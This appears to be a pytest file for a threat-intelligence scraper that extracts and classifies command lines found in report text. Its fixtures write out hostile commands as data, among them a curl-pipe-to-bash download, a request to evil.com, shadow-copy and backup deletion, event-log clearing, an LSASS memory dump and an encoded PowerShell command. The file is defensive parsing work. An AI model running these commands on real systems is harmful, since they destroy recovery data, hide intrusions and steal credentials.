"""Command lines in tables and pipes."""

import pytest

from ctiscraper.enrich.commands import is_general
from ctiscraper.enrich.kinds import Kind
from ctiscraper.enrich.observables import find_observables


def _commands(text: str) -> list[str]:
    return [one.value for one in find_observables(text) if one.kind is Kind.COMMAND_LINE]


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("a1 | Setup.exe | Win32/Agent.RUI", []),
        ("T1059 | cmd.exe /c whoami | 2021-01-02", ["cmd.exe /c whoami"]),
        ("x: tasklist | findstr lsass", ["tasklist | findstr lsass"]),
        ("Get-Process | Where-Object {$_.Id}", ["Get-Process | Where-Object {$_.Id}"]),
        ('reg query HKLM\\Run | find "x | y"', ['reg query HKLM\\Run | find "x | y"']),
        ("cat /etc/passwd | grep root", ["cat /etc/passwd | grep root"]),
        ("run `cat /etc/passwd | base64`", ["cat /etc/passwd | base64"]),
        ("chmod +x /tmp/a && /tmp/a -d", ["chmod +x /tmp/a && /tmp/a -d"]),
        ("rm -rf /tmp/a /tmp/b > /dev/null", ["rm -rf /tmp/a /tmp/b > /dev/null"]),
        ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
        ("seen at bad[.]net user x /add", []),
    ],
)
def test_a_command_ends_with_its_cell_and_not_with_its_pipe(text: str, commands: list[str]) -> None:
    assert _commands(text) == commands


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        (
            "It ran vssadmin delete shadows /all /quiet to remove every copy and slept.",
            ["vssadmin delete shadows /all /quiet"],
        ),
        (
            "They ran wbadmin.exe delete catalog -quiet to stop the recovery.",
            ["wbadmin.exe delete catalog -quiet"],
        ),
        ('echo "go to the end now" > C:\\a.txt', ['echo "go to the end now" > C:\\a.txt']),
        ("scp /tmp/a.zip to", ["scp /tmp/a.zip to"]),
        ("The group may use wmic to obtain lists of hosts.", []),
        ("wevtutil was run, vssadmin and wmic too.", []),
        ("wmic process call create calc", ["wmic process call create calc"]),
        ('It starts "C:\\Users\\a\\x.exe" and waits.', []),
        ("wmic shadowcopy delete", ["wmic shadowcopy delete"]),
        ("wevtutil cl System", ["wevtutil cl System"]),
        ("wevtutil clear-log Security", ["wevtutil clear-log Security"]),
        (
            'wmic rdtoggle where AllowTSConnections="0" call SetAllowTSConnections "1"',
            ['wmic rdtoggle where AllowTSConnections="0" call SetAllowTSConnections "1"'],
        ),
        ("wmic recoveros set autoreboot = False", ["wmic recoveros set autoreboot = False"]),
        ("They used wmic to delete all copies.", []),
        ("1. systeminfo\n2. tasklist /v", ["systeminfo", "tasklist /v"]),
    ],
)
def test_a_sentence_is_no_command_and_ends_one(text: str, commands: list[str]) -> None:
    assert _commands(text) == commands


@pytest.mark.parametrize(
    ("command", "is_told"),
    [
        ("nltest /domain_trusts", True),
        ("C:\\Windows\\System32\\net.exe user x /add", True),
        ('"C:\\Users\\a\\adfind.exe" -sc trustdmp', True),
        ("Get-ADComputer -Filter *", True),
        ("rundll32 C:\\ProgramData\\qx7.dll,Start", False),
        ("rundll32 C:\\Windows\\System32\\comsvcs.dll,MiniDump", True),
        ("ping 192.0.2.1", False),
        ("curl https://evil.com/a", False),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", False),
        ("sh /tmp/a.sh", False),
        ("qx7.exe --install", False),
        ("", False),
    ],
)
def test_what_administrators_type_is_general(command: str, is_told: bool) -> None:
    assert is_general(command) is is_told
